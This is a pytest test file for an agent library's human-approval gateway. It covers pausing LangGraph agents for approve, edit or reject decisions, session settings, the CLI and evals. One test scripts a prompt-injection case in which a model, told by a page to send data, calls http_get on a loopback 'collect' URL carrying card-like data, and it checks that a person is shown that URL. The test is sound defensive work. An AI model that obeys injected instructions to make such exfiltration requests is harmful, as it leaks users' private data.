"""Human approval: the gateway decides which calls need a person's yes, the graphs pause with `interrupt` to ask
(LangChain's HITL request), and `Command(resume={"decisions": [...]})` carries approve / edit / reject / respond;
an edit goes through the whole pipeline again. The format's details: test_approval_hitl.py."""

from __future__ import annotations

import asyncio
import io
import json
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from reactgraph.graph import build_plan_solve_graph, build_react_graph, build_reflexion_graph
from reactgraph.graph.sessions import pending_approval, plan_run, run
from reactgraph.nodes.approval import MAX_ASKS
from reactgraph.nodes.context import Context, InvalidContext
from reactgraph.tools import ToolGateway, ToolRegistrationError, ToolSession, ToolStatus, default_gateway
from reactgraph.tools.builtin import http_get_tool
from support.approval_tools import risky_gateway
from support.scripted import ScriptedChatModel, call, tool_agent, tool_reply

RULES = Context(reflection="rules")
APPROVE_BOTH = {"decisions": [{"type": "approve"}, {"type": "approve"}]}


def decisions(*each: dict) -> dict:
    """A HITLResponse: one decision per action request, in order."""
    return {"decisions": list(each)}


def edit(name: str, **args: Any) -> dict:
    return decisions({"type": "edit", "edited_action": {"name": name, "args": args}})


def start(graph: Any, question: str, thread: str = "t", context: Context = RULES) -> tuple[dict, dict]:
    config = {"configurable": {"thread_id": thread}}
    return graph.invoke({"messages": [HumanMessage(question)]}, config, context=context), config


def paused_on(result: dict) -> dict:
    (pause,) = result["__interrupt__"]
    return pause.value


@pytest.fixture
def ran() -> list[str]:
    return []


def deleting_graph(ran: list[str], then: str) -> Any:
    """A ReAct graph whose model first deletes /a (a call that asks for approval), then answers `then`."""
    return build_react_graph(risky_gateway(ran), checkpointer=InMemorySaver(), model=ScriptedChatModel.of(
        tool_reply("Delete it.", call("delete_file", "c1", path="/a")), AIMessage(then)))


def two_risky_calls(*then: AIMessage) -> ScriptedChatModel:
    return ScriptedChatModel.of(
        tool_reply("Clean up and look.", call("delete_file", "c1", path="/tmp/a"), call("send_mail", "c2", to="bob"),
                   call("lookup", "c3", topic="x")),
        *(then or (AIMessage("Done."),)))


# --- the gateway's policy --------------------------------------------------------------------------------------

async def test_a_call_that_needs_approval_is_not_run_without_one(ran):
    gateway = risky_gateway(ran)
    refused = await gateway.execute(call("delete_file", path="/a"))
    assert refused.status is ToolStatus.NEEDS_APPROVAL and ran == []
    assert "needs a person's approval" in refused.content and not refused.status.counts_as_failure
    assert (await gateway.execute(call("delete_file", path="/a"), approved=True)).ok and ran == ["delete:/a"]


async def test_session_settings_override_the_tools_own_by_name_then_by_tag(ran):
    gateway = risky_gateway(ran)
    by_name = ToolSession.of(approval={"delete_file": "never", "files": "always"})
    assert (await gateway.execute(call("delete_file", path="/a"), by_name)).ok  # the name wins over the tag
    by_tag = ToolSession.of(approval={"files": "always"})
    assert (await gateway.execute(call("archive", path="/b"), by_tag)).status is ToolStatus.NEEDS_APPROVAL
    assert gateway.approval_request(call("archive", path="/b"), by_tag) == {
        "id": "c1", "name": "archive", "args": {"path": "/b"}, "reason": "tools tagged 'files' need approval in "
                                                                        "this run's settings",
        "decisions": ["approve", "edit", "reject", "respond"]}
    either = ToolSession.of(approval={"files": "never", "extra": "always"})
    assert gateway.approval_request(call("delete_file", path="/a"), either) is None  # only "files" applies


def test_calls_the_pipeline_would_refuse_anyway_are_not_put_to_a_person(ran):
    gateway = risky_gateway(ran)
    assert gateway.approval_request(call("delete_file", path="/a")) is not None
    assert gateway.approval_request(call("delete_file", where="/a")) is None  # invalid arguments
    assert gateway.approval_request(call("nothing", path="/a")) is None  # unknown tool
    assert gateway.approval_request(call("delete_file", path="/a"), ToolSession.of(deny=["files"])) is None
    assert gateway.approval_request("junk") is None  # type: ignore[arg-type]


def test_http_get_asks_by_default_and_the_setting_is_checked(monkeypatch: pytest.MonkeyPatch):
    assert http_get_tool(["127.0.0.1"]).approval == "always"
    assert http_get_tool(["127.0.0.1"], approval="never").approval == "never"
    monkeypatch.setenv("REACTGRAPH_HTTP_APPROVAL", "never")
    assert default_gateway().registry.get("http_get").approval == "never"
    monkeypatch.setenv("REACTGRAPH_HTTP_APPROVAL", "sometimes")
    with pytest.raises(ToolRegistrationError, match="REACTGRAPH_HTTP_APPROVAL = 'sometimes': expected 'always'"):
        default_gateway()


def test_a_langchain_agent_gets_an_error_tool_message_not_a_silent_run(ran):
    (tool,) = [t for t in risky_gateway(ran).as_langchain_tools() if t.name == "delete_file"]
    message = tool.invoke({"name": "delete_file", "args": {"path": "/a"}, "id": "x", "type": "tool_call"})
    assert isinstance(message, ToolMessage) and message.status == "error" and ran == []


def test_context_approval_is_checked_like_every_field():
    assert Context(approval={"http_get": "never"}).approval == {"http_get": "never"}
    for bad in ({"http_get": "maybe"}, ["http_get"], {"": "never"}):
        with pytest.raises(InvalidContext, match=r"Context\.approval = .* expected a mapping from tool names"):
            Context(approval=bad)


# --- pausing and resuming the ReAct graph --------------------------------------------------------------------

def test_all_calls_of_one_reply_are_asked_about_in_one_interrupt_and_nothing_runs_before(ran):
    graph = build_react_graph(risky_gateway(ran), checkpointer=InMemorySaver(), model=two_risky_calls())
    result, _config = start(graph, "clean up")
    everything = ["approve", "edit", "reject", "respond"]
    assert paused_on(result) == {  # LangChain's HITLRequest, as HumanInTheLoopMiddleware raises it
        "action_requests": [
            {"name": "delete_file", "args": {"path": "/tmp/a"}, "description":
             'delete_file needs a person\'s approval for each call\n\nTool: delete_file\nArgs: {"path": "/tmp/a"}'},
            {"name": "send_mail", "args": {"to": "bob"}, "description":
             'send_mail needs a person\'s approval for each call\n\nTool: send_mail\nArgs: {"to": "bob"}'}],
        "review_configs": [{"action_name": "delete_file", "allowed_decisions": everything},
                           {"action_name": "send_mail", "allowed_decisions": everything}]}
    assert ran == []  # not even the call that needs no approval: a reply's calls go on together


def test_approving_each_call_runs_them_all(ran):
    graph = build_react_graph(risky_gateway(ran), checkpointer=InMemorySaver(), model=two_risky_calls())
    _, config = start(graph, "clean up")
    result = graph.invoke(Command(resume=APPROVE_BOTH), config, context=RULES)
    assert sorted(ran) == ["delete:/tmp/a", "lookup:x", "mail:bob"] and result["status"] == "answered"
    assert [(s["node"], s["action"], s["status"]) for s in result["steps"] if s["node"] in ("approve", "act")] == [
        ("approve", "delete_file", "approved"), ("approve", "send_mail", "approved"),
        ("act", "delete_file", "ok"), ("act", "send_mail", "ok"), ("act", "lookup", "ok")]


def test_a_rejected_call_never_runs_and_the_model_reads_the_reason(ran):
    model = two_risky_calls()
    graph = build_react_graph(risky_gateway(ran), checkpointer=InMemorySaver(), model=model)
    _, config = start(graph, "clean up")
    result = graph.invoke(Command(resume={"decisions": [{"type": "reject", "message": "that file is needed"},
                                                        {"type": "approve"}]}), config, context=RULES)
    assert sorted(ran) == ["lookup:x", "mail:bob"]
    answers = {m.tool_call_id: m for m in model.requests[-1]["messages"] if isinstance(m, ToolMessage)}
    assert answers["c1"].status == "error"
    assert "rejected at the approval step: that file is needed" in answers["c1"].text
    observed = {s["action"]: s["status"] for s in result["steps"] if s["node"] == "act"}
    assert observed == {"delete_file": "rejected", "send_mail": "ok", "lookup": "ok"}


def test_rejecting_every_call_goes_on_to_observe_and_the_model_answers(ran):
    graph = deleting_graph(ran, then="I did not delete it.")
    _, config = start(graph, "delete /a")
    result = graph.invoke(Command(resume=decisions({"type": "reject"})), config, context=RULES)
    assert ran == [] and result["status"] == "answered" and result["final_answer"] == "I did not delete it."
    assert "(no reason given)" in next(s for s in result["steps"] if s["node"] == "act")["observation"]


def test_an_edit_runs_instead_of_the_original_which_never_runs(ran):
    model = ScriptedChatModel.of(tool_reply("Delete it.", call("delete_file", "c1", path="/important")),
                                 AIMessage("Deleted the copy."))
    graph = build_react_graph(risky_gateway(ran), checkpointer=InMemorySaver(), model=model)
    _, config = start(graph, "delete it")
    result = graph.invoke(Command(resume=edit("delete_file", path="/copy")), config, context=RULES)
    assert ran == ["delete:/copy"]
    # The model's reply now shows the call that ran, and the result says what the person changed (langchain #33787:
    # a model that still sees its own call retries it).
    shown = model.requests[-1]["messages"]
    reply = next(m for m in shown if isinstance(m, AIMessage) and m.tool_calls)
    assert reply.tool_calls[0]["args"] == {"path": "/copy"}
    result_text = next(m for m in shown if isinstance(m, ToolMessage)).text
    assert "\n[A person edited this call before it ran" in result_text and '{"path": "/important"}' in result_text
    assert [(s["node"], s["status"]) for s in result["steps"]][:2] == [("approve", "edited"), ("act", "ok")]


def test_an_edit_into_another_tool_that_asks_is_asked_about_again(ran):
    graph = deleting_graph(ran, then="Sent.")
    _, config = start(graph, "do it")
    second = graph.invoke(Command(resume=edit("send_mail", to="eve")), config, context=RULES)
    (asked,) = paused_on(second)["action_requests"]
    assert (asked["name"], asked["args"]) == ("send_mail", {"to": "eve"})
    assert asked["description"].startswith("edited from delete_file: send_mail needs a person's approval")
    assert ran == []  # no bypass of send_mail's policy (langchain #40166)
    result = graph.invoke(Command(resume=decisions({"type": "reject", "message": "no mail"})), config,
                          context=RULES)
    assert ran == [] and [s["status"] for s in result["steps"] if s["node"] == "approve"] == ["rejected"]


def test_an_edit_into_a_denied_tool_is_refused_by_the_permission_check(ran):
    graph = deleting_graph(ran, then="Could not.")
    context = Context(reflection="rules", denied_tools=("archive",))
    _, config = start(graph, "do it", context=context)
    result = graph.invoke(Command(resume=edit("archive", path="/a")), config, context=context)
    assert ran == [] and [s["status"] for s in result["steps"] if s["node"] == "act"] == ["denied"]


def test_an_edit_into_a_tool_that_does_not_ask_runs_at_once(ran):
    graph = deleting_graph(ran, then="Archived.")
    _, config = start(graph, "do it")
    result = graph.invoke(Command(resume=edit("archive", path="/a")), config, context=RULES)
    assert ran == ["archive:/a"] and "__interrupt__" not in result


def test_an_answer_that_is_not_understood_is_asked_again_with_the_problem_then_rejected(ran):
    graph = deleting_graph(ran, then="Not done.")
    _, config = start(graph, "do it")
    for answer, problem in [(decisions({"type": "maybe"}), "decision 1 (delete_file): type 'maybe' is not approve"),
                            ({"decisions": []}, "0 decision(s) for 1 action request(s) (delete_file)"),
                            (decisions({"type": "edit", "args": {}}), "edit needs edited_action"),
                            ({"type": "approve"}, 'an answer must be {"decisions": [...]} with one decision')]:
        again = graph.invoke(Command(resume=answer), config, context=RULES)
        assert problem in paused_on(again)["error"], paused_on(again)
    result = graph.invoke(Command(resume=42), config, context=RULES)  # the MAX_ASKS-th answer not understood
    assert MAX_ASKS == 5 and ran == [] and result["status"] == "answered"
    assert "no valid decision after 5 answers" in next(s for s in result["steps"] if s["node"] == "approve")[
        "observation"]


def test_context_approval_turns_asking_off_or_on_for_a_run(ran):
    graph = build_react_graph(risky_gateway(ran), checkpointer=InMemorySaver(), model=ScriptedChatModel.of(
        tool_reply("Delete.", call("delete_file", "c1", path="/a")), AIMessage("Done."),
        tool_reply("Look.", call("lookup", "c2", topic="y")), AIMessage("Done.")))
    # No closing self-check: the script holds the two runs' replies only.
    result, _ = start(graph, "do it", "t1", Context(reflection="rules", closing_check=False,
                                                    approval={"delete_file": "never"}))
    assert "__interrupt__" not in result and ran == ["delete:/a"]
    result, _ = start(graph, "look", "t2", Context(reflection="rules", closing_check=False,
                                                   approval={"lookup": "always"}))
    assert paused_on(result)["action_requests"][0]["name"] == "lookup"


async def test_the_async_run_pauses_and_resumes_the_same_way_with_events_on_the_custom_stream(ran):
    graph = build_react_graph(risky_gateway(ran), checkpointer=InMemorySaver(), model=two_risky_calls())
    config = {"configurable": {"thread_id": "a"}}
    events = [part async for part in graph.astream({"messages": [HumanMessage("go")]}, config, context=RULES,
                                                   stream_mode="custom")]
    assert [(e["event"], e["tool"]) for e in events] == [("approval_requested", "delete_file"),
                                                         ("approval_requested", "send_mail")]
    answer = decisions({"type": "approve"}, {"type": "reject"})
    events = [part async for part in graph.astream(Command(resume=answer), config,
                                                   context=RULES, stream_mode="custom")]
    assert [(e["event"], e["tool"], e.get("decision")) for e in events if e["event"].startswith("approval")] == [
        ("approval_decided", "delete_file", "approved"), ("approval_decided", "send_mail", "rejected")]
    assert sorted(ran) == ["delete:/tmp/a", "lookup:x"]


def test_budget_cut_calls_are_not_put_to_a_person(ran):
    graph = build_react_graph(risky_gateway(ran), checkpointer=InMemorySaver(), model=two_risky_calls())
    result, config = start(graph, "go", context=Context(reflection="rules", max_tool_calls=1))
    assert [c["name"] for c in paused_on(result)["action_requests"]] == ["delete_file"]  # c2, c3 do not fit
    result = graph.invoke(Command(resume=decisions({"type": "approve"})), config,
                          context=Context(reflection="rules", max_tool_calls=1))
    assert ran == ["delete:/tmp/a"]


# --- the other graphs, and sessions ----------------------------------------------------------------------------

class _Page(BaseHTTPRequestHandler):
    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        body = b"<html><title>Notes</title><body>LangGraph builds agents as graphs.</body></html>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture(scope="module")
def page() -> Iterator[str]:
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Page)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/notes"
    httpd.shutdown()
    httpd.server_close()


def loopback_tools() -> ToolGateway:
    return default_gateway(http_allow_hosts=["127.0.0.1"], http_allow_private=True)


@pytest.mark.parametrize("build", [build_react_graph, build_plan_solve_graph, build_reflexion_graph],
                         ids=["react", "plan_solve", "reflexion"])
def test_every_graph_asks_before_http_get(build, page):
    model = tool_agent([call("http_get", url=page)])  # fetches the page, then answers with what it got
    graph = build(loopback_tools(), checkpointer=InMemorySaver(), model=model)
    result, config = start(graph, f"Fetch {page}", context=Context())
    request = paused_on(result)
    assert [(c["name"], c["args"]) for c in request["action_requests"]] == [("http_get", {"url": page})]
    result = graph.invoke(Command(resume=decisions({"type": "approve"})), config, context=Context())
    assert result["status"] == "answered" and "LangGraph builds agents as graphs." in result["final_answer"]


def test_sessions_run_asks_the_approver_and_resumes_under_the_lease(page):
    graph = build_react_graph(loopback_tools(), checkpointer=InMemorySaver(),
                              model=tool_agent([call("http_get", url=page)]))
    asked: list[dict] = []

    def approver(request: dict) -> Any:
        asked.append(request)
        return decisions({"type": "reject", "message": "not today"})

    result = run(graph, plan_run(graph, f"Fetch {page}", "s1"), Context(), approver=approver)
    assert len(asked) == 1 and result["status"] in ("no_answer", "answered", "partial")
    assert "not today" in next(s for s in result["steps"] if s["node"] == "act")["observation"]
    # Without an approver the session stays paused, and says what it waits for.
    paused = run(graph, plan_run(graph, f"Fetch {page}", "s2"), Context())
    assert paused.get("status") is None and pending_approval(graph, "s2")["action_requests"][0]["name"] == "http_get"
    assert plan_run(graph, f"Fetch {page}", "s2").mode == "resume"  # asking again takes it up where it paused


def test_a_prompt_injection_asking_for_exfiltration_is_put_to_a_person_with_the_url(ran):
    leak = "http://127.0.0.1:9/collect?data=card-6222"
    graph = build_react_graph(loopback_tools(), checkpointer=InMemorySaver(), model=ScriptedChatModel.of(
        tool_reply("The page says to send it.", call("http_get", "c1", url=leak)), AIMessage("No.")))
    result, _ = start(graph, "summarise the page")
    # The person sees exactly what would be sent.
    assert paused_on(result)["action_requests"][0]["args"] == {"url": leak}


def test_the_graph_keeps_going_when_a_resume_comes_for_a_finished_turn(ran):
    graph = build_react_graph(risky_gateway(ran), checkpointer=InMemorySaver(), model=ScriptedChatModel.of(
        AIMessage("Nothing to do.")))
    _, config = start(graph, "hi")
    assert asyncio.run(graph.ainvoke(Command(resume=decisions({"type": "approve"})), config, context=RULES))[
        "status"] == "answered"


# --- the CLI ------------------------------------------------------------------------------------------------------

class _Terminal(io.StringIO):
    """Typed answers on a stdin that says it is a terminal."""

    def isatty(self) -> bool:
        return True


ASK_CALC = ("ask", "what is 15*3", "--require-approval", "calculator", "--reflection", "rules", "--json")


def test_cli_approve_all_runs_the_call(cli, cli_session):
    code, out, _err = cli(*ASK_CALC, "--session", cli_session, "--approve", "all")
    payload = json.loads(out)
    assert code == 0 and "45" in payload["answer"]
    assert [(s["node"], s["status"]) for s in payload["steps"]][:2] == [("approve", "approved"), ("act", "ok")]


def test_cli_approve_none_or_other_tools_rejects_and_the_answer_says_so(cli, cli_session):
    for approve in (["none"], ["get_time", "network"]):
        _code, out, _err = cli(*ASK_CALC, "--session", f"{cli_session}-{approve[0]}",
                              *[arg for tool in approve for arg in ("--approve", tool)])
        payload = json.loads(out)
        rejected = [s for s in payload["steps"] if s["node"] == "act"]
        assert rejected and {s["status"] for s in rejected} == {"rejected"} and payload["status"] != "answered"
        assert ("rejected by --approve none" if approve == ["none"] else "not among --approve") in \
            rejected[0]["observation"]


def test_cli_without_a_terminal_rejects_with_a_hint_instead_of_hanging(cli, cli_session):
    _code, out, err = cli(*ASK_CALC, "--session", cli_session)
    assert "approval needed for calculator: no one could approve it: not run at a terminal (use --approve" in err
    assert {s["status"] for s in json.loads(out)["steps"] if s["node"] == "act"} == {"rejected"}


def test_cli_asks_at_a_terminal_and_an_edit_runs(cli, cli_session, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(sys, "stdin", _Terminal("x\ne\n\n{\"expression\": \"2+2\"}\n"))  # a wrong key first
    _code, out, err = cli("ask", "what is 15*3", "--require-approval", "calculator", "--reflection", "rules",
                         "--session", cli_session)
    assert '   calculator({"expression": "15 * 3"})' in err and "[a]pprove, [e]dit, [r]eject or re[s]pond?" in err
    assert "✋ calculator needs approval" in out
    assert "Approval [calculator · edited]" in out and "Observation [calculator · ok" in out


def test_cli_bad_approval_flags_are_one_line(cli):
    code, _out, err = cli("ask", "hi", "--approve", "all", "--approve", "calculator")
    assert code == 2 and "all and none stand alone" in err and len(err.strip().splitlines()) == 1
    code, _out, err = cli("ask", "hi", "--require-approval", "calculater")
    assert code == 2 and "--require-approval/--skip-approval 'calculater': not a tool or a tag" in err


def test_evals_approve_what_their_tools_ask_for_and_measure_the_run(page, monkeypatch: pytest.MonkeyPatch):
    from types import SimpleNamespace

    from reactgraph.evals import runner
    from reactgraph.evals.graphs import resolve_graphs
    from reactgraph.evals.runner import RunConfig, run_task
    from reactgraph.evals.tasks import Task

    # The eval's gateway with http_get allowed to reach the loopback page (and no faults injected).
    monkeypatch.setattr(runner, "faulty_gateway",
                        lambda faults, key, base=None, scripted=None: (loopback_tools(), SimpleNamespace(injected={})))
    (entry,) = resolve_graphs(["react"])
    task = Task(id="fetch", question=f"Fetch {page}", expected=["LangGraph builds agents"])
    model = tool_agent([call("http_get", url=page)])  # fetches the page, then answers with what it got
    record = run_task(entry, task, 0, RunConfig(graphs=("react",)), model)
    assert record["status"] == "answered" and record["success"] and record["tool_statuses"] == {"ok": 1}
